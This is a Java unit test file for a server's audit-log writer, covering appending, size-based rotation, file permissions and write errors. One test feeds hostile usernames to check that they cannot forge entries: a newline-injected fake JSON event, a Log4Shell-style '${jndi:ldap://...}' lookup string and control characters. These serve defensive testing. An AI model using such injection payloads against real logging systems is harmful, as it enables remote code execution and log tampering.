package org.turnd.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.typesafe.config.ConfigFactory;
import com.typesafe.config.ConfigParseOptions;
import com.typesafe.config.ConfigSyntax;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;
import org.turnd.server.config.EventKind;
import org.turnd.server.config.EventSettings;
import org.turnd.server.ops.Event;
import org.turnd.server.ops.EventField;

@Timeout(60)
@EnabledOnOs(OS.LINUX)
class AuditFileTest {
    private static final int KIBIBYTE = 1024;

    @TempDir private Path directory;

    @Test
    void writesALineAnEventAndKeepsWhatIsThere() throws IOException {
        Path path = directory.resolve("audit.json");
        write(path, KIBIBYTE * KIBIBYTE, "alice");
        write(path, KIBIBYTE * KIBIBYTE, "bob");

        assertEquals(List.of("alice", "bob"), usernames(Files.readAllLines(path)));
    }

    @Test
    void noUserNameForgesALine() throws IOException {
        Path path = directory.resolve("audit.json");
        String[] names = {
            "eve\n{\"event\":\"allocation_ended\"}",
            "${jndi:ldap://192.0.2.1/a}",
            "{} %n\r\u2028\u202e"
        };
        write(path, KIBIBYTE * KIBIBYTE, names);

        assertEquals(List.of(names), usernames(Files.readAllLines(path)));
    }

    @Test
    void beginsANewFileWhenOneIsFullAndLosesNoLine() throws IOException {
        Path path = directory.resolve("audit.json");
        String[] names = IntStream.range(0, 1000).mapToObj(i -> "user " + i).toArray(String[]::new);
        write(path, 10 * KIBIBYTE, names);

        List<Path> files = files();
        assertTrue(files.size() >= 8, () -> "" + files);
        List<String> lines = new ArrayList<>();
        for (Path file : files) {
            assertTrue(Files.size(file) <= 11 * KIBIBYTE, () -> "" + file);
            assertEquals(
                    "rw-------",
                    PosixFilePermissions.toString(Files.getPosixFilePermissions(file)),
                    () -> "" + file);
            lines.addAll(Files.readAllLines(file));
        }
        assertEquals(List.of(names), usernames(lines));
    }

    @Test
    void saysAtOnceWhenTheFileCantBeWritten() throws IOException {
        Path path = Files.createDirectory(directory.resolve("audit.json"));

        assertThrows(IOException.class, () -> AuditFile.open(settings(path, KIBIBYTE)));
    }

    /// Oldest first; the one that is being written has no number.
    private List<Path> files() throws IOException {
        try (Stream<Path> files = Files.list(directory)) {
            return files.sorted(Comparator.comparingInt(AuditFileTest::number)).toList();
        }
    }

    private static int number(Path file) {
        String name = file.getFileName().toString();
        String end = name.substring(name.lastIndexOf('.') + 1);
        return end.equals("json") ? Integer.MAX_VALUE : Integer.parseInt(end);
    }

    private static void write(Path path, int bytes, String... usernames) throws IOException {
        var file = AuditFile.open(settings(path, bytes));
        for (String username : usernames) {
            file.accept(
                    new Event(
                            Instant.EPOCH,
                            EventKind.ALLOCATION_CREATED,
                            Map.of(EventField.USERNAME, username)));
        }
        file.close();
        assertEquals(usernames.length, file.delivered());
        assertEquals(0, file.dropped() + file.failures() + file.queued());
    }

    private static EventSettings.AuditFile settings(Path path, int bytes) {
        return new EventSettings.AuditFile(path, bytes, 30);
    }

    private static List<String> usernames(List<String> lines) {
        return lines.stream()
                .map(line ->
                        ConfigFactory.parseString(
                                        line,
                                        ConfigParseOptions.defaults().setSyntax(ConfigSyntax.JSON))
                                .getString("username"))
                .toList();
    }
}
